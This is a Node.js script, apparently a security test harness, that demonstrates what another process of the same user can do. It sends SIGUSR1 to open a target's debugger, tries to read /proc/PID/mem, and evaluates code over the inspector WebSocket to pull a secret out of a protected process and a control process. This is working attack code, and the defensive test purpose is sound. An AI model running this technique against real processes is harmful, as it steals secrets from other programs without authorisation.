/**
 * What another process of the same user can do: `node attacker.mjs PID PORT PID PORT`. It sends SIGUSR1 to the first process
 * and then to the second, the control, whose debugger it waits for. By then the first has had its chance: it tries to read
 * the memory of both by way of the kernel, and their secrets by way of their debuggers.
 *
 * Prints `[{ kernel, debugger }, …]`: bytes that were read, or the code of the refusal.
 */
import { closeSync, openSync } from 'node:fs';
import { setTimeout as delay } from 'node:timers/promises';

const POLL_MS = 20;
const [pid = '', port = '', controlPid = '', controlPort = ''] = process.argv.slice(2);

/** @param {string} pid */
function openMemory(pid) {
  try {
    closeSync(openSync(`/proc/${pid}/mem`, 'r'));
    return 'opened';
  } catch (error) {
    return /** @type {NodeJS.ErrnoException} */ (error).code;
  }
}

/** @param {string} port @returns {Promise<string | undefined>} */
async function debuggerUrl(port) {
  const response = await fetch(`http://127.0.0.1:${port}/json`).catch(() => undefined);
  const [target] = /** @type {{ webSocketDebuggerUrl: string }[]} */ (await response?.json()) ?? [];
  return target?.webSocketDebuggerUrl;
}

/** @param {string} url @returns {Promise<unknown>} */
function evaluate(url) {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url);
    const expression = 'String.fromCharCode(...globalThis.secret.exportCopy())';
    const request = { id: 1, method: 'Runtime.evaluate', params: { expression } };
    socket.onopen = () => socket.send(JSON.stringify(request));
    socket.onerror = () => reject(new Error('the debugger hung up'));
    socket.onmessage = ({ data }) => resolve(JSON.parse(data).result.result.value);
  });
}

/** @param {string | undefined} url */
const through = (url) => (url === undefined ? 'refused' : evaluate(url));

process.kill(Number(pid), 'SIGUSR1');
process.kill(Number(controlPid), 'SIGUSR1');
let controlUrl;
while (controlUrl === undefined) {
  controlUrl = await debuggerUrl(controlPort);
  if (controlUrl === undefined) await delay(POLL_MS);
}
const answers = [
  { kernel: openMemory(pid), debugger: await through(await debuggerUrl(port)) },
  { kernel: openMemory(controlPid), debugger: await through(controlUrl) },
];
process.stdout.write(JSON.stringify(answers), () => process.exit(0));
